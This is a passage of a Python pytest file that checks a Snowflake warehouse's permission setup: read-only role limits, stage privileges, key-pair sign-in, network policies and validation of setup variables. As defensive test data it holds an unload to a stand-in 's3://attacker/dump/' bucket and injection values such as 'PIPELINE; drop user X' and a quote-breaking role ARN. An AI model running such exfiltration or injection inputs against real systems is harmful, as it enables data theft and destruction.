            "on target.user_id = source.user_id when matched then delete",
            "no DELETE",
        ),
        ("create table raw.scratch (a varchar)", "no CREATE TABLE"),
        ("create temporary table scratch (a varchar)", "no CREATE TABLE"),
        ("create view analytics.copy_of_orders as select order_id from analytics.orders", "no CREATE VIEW"),
        ("create stage raw.scratch", "no CREATE STAGE"),
        ("create file format raw.scratch type = csv", "no CREATE FILE FORMAT"),
        ("drop table raw.load_audit", "OWNERSHIP"),
        ("alter table raw.load_audit add column x varchar", "OWNERSHIP"),
        ("drop schema raw", "OWNERSHIP"),
        ("grant select on table raw.load_audit to role public", "may not grant"),
        ("put 'file:///tmp/x/*' @RAW.LANDING_INTERNAL/x/", "no WRITE"),
        ("list @RAW.LANDING_INTERNAL", "no READ"),
        ("list @RAW.LANDING_S3", "not authorized"),
        ("copy into raw.events_raw from @RAW.LANDING_S3", "no INSERT"),
        ("copy into @RAW.LANDING_INTERNAL/x/ from raw.events_raw", "no WRITE"),
        ("copy into 's3://attacker/dump/' from analytics.orders", "PREVENT_UNLOAD_TO_INLINE_URL"),
        ("use role MOBILE_EVENTS_LOADER", "not granted"),
    ],
)
def test_the_read_only_role_cannot(migrated, variables, statement: str, rule: str) -> None:
    migrated.login(variables["read_user"])
    with pytest.raises(Refused, match=rule):
        migrated.run(statement)


def test_the_read_only_role_gets_exactly_usage_and_select(migrated, variables) -> None:
    db, reader = variables["database"], variables["read_role"]
    schemas = {f"{db}.RAW", f"{db}.ANALYTICS"}
    granted = {(p, kind, name) for p, kind, name, grantee in migrated.grants if grantee == reader}
    assert {g for g in granted if g[0] != "SELECT"} == {
        ("USAGE", "WAREHOUSE", variables["warehouse"]),
        ("USAGE", "DATABASE", db),
        *{("USAGE", "SCHEMA", schema) for schema in schemas},
    }
    assert {kind for p, kind, _ in granted if p == "SELECT"} == {"TABLE", "VIEW"}
    assert {(p, kind, schema) for p, kind, schema, grantee in migrated.future if grantee == reader} == {
        ("SELECT", "TABLE", f"{db}.RAW"),
        ("SELECT", "TABLE", f"{db}.ANALYTICS"),
        ("SELECT", "VIEW", f"{db}.ANALYTICS"),
    }
    assert not [key for key, owner in migrated.owners.items() if owner == reader]
    assert not migrated.parents[reader], "inherits no role"
    assert migrated.users[variables["read_user"]] == {reader}


def test_an_account_set_up_when_the_pipeline_role_owned_its_schemas_is_brought_in_line(variables) -> None:
    """Step 2 takes the schemas back to SYSADMIN, step 3 turns managed access on, step 5 lets the read-only
    role read the tables that exist (ALL) as well as later ones (FUTURE); a grant the pipeline role made
    to PUBLIC before stays (REVOKE is the administrator's, docs/production.md) but it can make no new one."""
    db, role = variables["database"], variables["role"]
    state = Account()
    for stmt in [
        "use role sysadmin",
        f"create warehouse if not exists {variables['warehouse']} warehouse_size = xsmall",
        f"create database if not exists {db}",
        f"create schema if not exists {db}.raw",
        f"create schema if not exists {db}.analytics",
        "use role securityadmin",
        f"create role if not exists {role}",
        f"grant role {role} to role sysadmin",
        f"grant usage on database {db} to role {role}",
        f"grant ownership on schema {db}.raw to role {role} copy current grants",
        f"grant ownership on schema {db}.analytics to role {role} copy current grants",
        f"use role {role}",
        f"use database {db}",
        "use schema raw",
        "create table if not exists raw.events_raw (event_key varchar)",
        "grant select on table raw.events_raw to role public",
    ]:
        state.run(stmt)
    set_up(variables, state)
    assert state.owners[("SCHEMA", f"{db}.RAW")] == "SYSADMIN" and f"{db}.RAW" in state.managed
    assert ("SELECT", "TABLE", f"{db}.RAW.EVENTS_RAW", variables["read_role"]) in state.grants
    state.user_roles, state.role = {role}, role
    with pytest.raises(Refused, match="may not grant"):
        state.run("grant select on table raw.events_raw to role public")
    with pytest.raises(Refused, match="OWNERSHIP"):
        state.run(f"drop schema {db}.raw")


def test_stage_privileges_match_the_stage_kind(variables) -> None:
    """USAGE for external stages, READ and WRITE for internal ones, never the other way round."""
    stages = {}
    for stmt in account_statements(variables):
        if m := re.fullmatch(r"create stage if not exists ([\w.]+)( .*)?", stmt, re.IGNORECASE):
            stages[m[1].upper()] = "external" if "url =" in (m[2] or "").lower() else "internal"
    grants = [
        (m[1].upper(), m[2].upper())
        for stmt in account_statements(variables)
        if (m := re.fullmatch(r"grant ([\w ,]+) on stage ([\w.]+) to role \w+", stmt, re.IGNORECASE))
    ]
    assert grants
    for privileges, stage in grants:
        allowed = {"USAGE"} if stages.get(stage) == "external" else {"READ", "WRITE"}
        assert {p.strip() for p in privileges.split(",")} <= allowed, (privileges, stage)


def test_the_external_stage_points_at_the_landing_folder_inside_the_allowed_locations(variables) -> None:
    text = "\n".join(account_statements(variables))
    allowed = re.findall(r"storage_allowed_locations = \(([^)]*)\)", text)
    urls = re.findall(r"create stage if not exists [\w.]+ url = '([^']+)'", text)
    assert len(allowed) == 1 and len(urls) == 1
    locations = [loc.strip().strip("'") for loc in allowed[0].split(",")]
    assert urls[0] == "s3://mobile-events-landing/landing/"
    assert any(urls[0].startswith(location) for location in locations)


def test_each_service_user_signs_in_with_its_own_key_pair_only(variables) -> None:
    statements = account_statements(variables)
    users = {
        m[1]: stmt.lower()
        for stmt in statements
        if (m := re.match(r"create user if not exists (\w+) ", stmt, re.IGNORECASE))
    }
    assert set(users) == {variables["user"], variables["read_user"]}
    for user, key in ((variables["user"], "public_key"), (variables["read_user"], "read_public_key")):
        assert "type = service" in users[user]
        assert f"rsa_public_key = '{variables[key].lower()}'" in users[user]
        assert f"alter user {user} set network_policy = {variables['network_policy']}" in statements
    assert variables["public_key"] != variables["read_public_key"]
    assert not [s for s in statements if "password" in s.lower()]
    policies = [s for s in statements if s.lower().startswith("create network policy")]
    assert len(policies) == 1
    assert "allowed_ip_list = ('192.0.2.0/24', '198.51.100.7/32')" in policies[0]


def test_setup_with_account_variables_runs_the_account_files_and_nothing_else(variables) -> None:
    class Recorder:
        def __init__(self) -> None:
            self.statements: list[str] = []

        def cursor(self) -> Recorder:
            return self

        def execute(self, statement: str, params: Any = None) -> None:
            self.statements.append(" ".join(statement.split()))

    recorder = Recorder()
    from warehouse.settings import load_settings

    ran = setup.run_setup(recorder, load_settings(), variables)
    assert ran == sql_files.files("setup/account")
    assert recorder.statements == account_statements(variables)


def test_the_public_key_is_the_pem_body_and_a_weak_or_private_key_is_refused() -> None:
    pem = public_key_pem()
    body = "".join(pem.strip().splitlines()[1:-1])
    assert account.rsa_public_key(pem) == body
    assert account.rsa_public_key(body) == body
    for bad in (public_key_pem(1024), "not a key", base64.b64encode(b"\x30\x03\x02\x01\x01").decode(), ""):
        with pytest.raises(IdentifierError, match="public_key"):
            account.rsa_public_key(bad)


@pytest.mark.parametrize(
    ("name", "value", "message"),
    [
        ("user", "PIPELINE; drop user X", "user"),
        ("network_policy", "P'", "network_policy"),
        ("allowed_ip_list", ["0.0.0.0/0"], "every address"),
        ("allowed_ip_list", ["10.0.0.1/8"], "10.0.0.1/8"),
        ("allowed_ip_list", ["2001:db8::/32"], "IPv4"),
        ("allowed_ip_list", ["192.0.2.1', '0.0.0.0/0"], "IPv4"),
        ("allowed_ip_list", [], "non-empty"),
        ("allowed_ip_list", "192.0.2.1", "list"),
        ("landing_prefix", "landing", "landing folder"),
        ("landing_prefix", "/landing/", "landing folder"),
        ("role_arn", "arn:aws:iam::1:role/x' or '1'='1", "role_arn"),
        ("warehouse", "WH; drop database X", "warehouse"),
        ("pasword", "secret", "unknown account variable"),
        ("role", "sysadmin", "system role"),
        ("read_role", "ACCOUNTADMIN", "system role"),
        ("read_role", "mobile_events_loader", "read_role must differ from role"),
        ("read_user", "MOBILE_EVENTS_PIPELINE", "read_user must differ from user"),
        ("read_user", "HEALTH; drop user X", "read_user"),
        ("read_public_key", public_key_pem(), "read_public_key must differ from public_key"),
        ("read_public_key", public_key_pem(1024, which=1), "read_public_key is not an RSA public key"),
        ("read_public_key", None, "read_public_key is missing"),
    ],
)
def test_account_variables_are_validated(name: str, value: object, message: str) -> None:
    with pytest.raises(IdentifierError, match=re.escape(message)):
        account.setup_variables(values(**{name: value}))


def cli_values(**overrides: Any) -> dict[str, Any]:
    """What an administrator passes: bucket and landing folder come from config/aws.json."""
    return {k: v for k, v in values(**overrides).items() if k not in ("bucket", "landing_prefix") or k in overrides}


def test_the_cli_refuses_bad_account_variables_before_connecting(capsys) -> None:
    import json

    from warehouse.__main__ import main

    assert main(["setup", "--account-objects", json.dumps(cli_values(public_key="MIIB"))]) == 2
    assert "public_key" in capsys.readouterr().err


def test_the_cli_points_the_external_stage_at_the_folder_the_loader_lists(capsys) -> None:
    import json

    from warehouse import __main__ as cli
    from warehouse.pipeline import landing

    assert cli.main(["setup", "--account-objects", json.dumps(cli_values(landing_prefix="other/"))]) == 2
    assert "the loader reads" in capsys.readouterr().err
    checked = cli._account_variables(json.dumps(cli_values()))
    assert (checked["bucket"], checked["landing_prefix"]) == (landing().bucket, landing().prefix)


def test_the_production_steps_connect_each_identity_with_a_key_pair_only() -> None:
    import json

    page = (sql_files.SQL_DIR.parent / "docs" / "production.md").read_text(encoding="utf-8")
    steps = page.split("## Setting up a fresh account, step by step", 1)[1].split("\n## ", 1)[0]
    connections = [json.loads(m) for m in re.findall(r'`(\{"conn_type": "snowflake".*?\})`', steps)]
    assert {c["extra"]["role"] for c in connections} == {"MOBILE_EVENTS_LOADER", "MOBILE_EVENTS_READER"}
    for connection in connections:
        assert "password" not in connection and "password" not in connection["extra"]
        assert {"private_key_file", "private_key_content"} & set(connection["extra"])
    assert len({c["login"] for c in connections}) == len({c["extra"]["private_key_file"] for c in connections}) == 2
    for needed in ("--account-objects", "desc integration", "rsa_key.pub", "ELT_SNOWFLAKE_READ_CONN_ID", "read_role"):
        assert needed in steps, needed
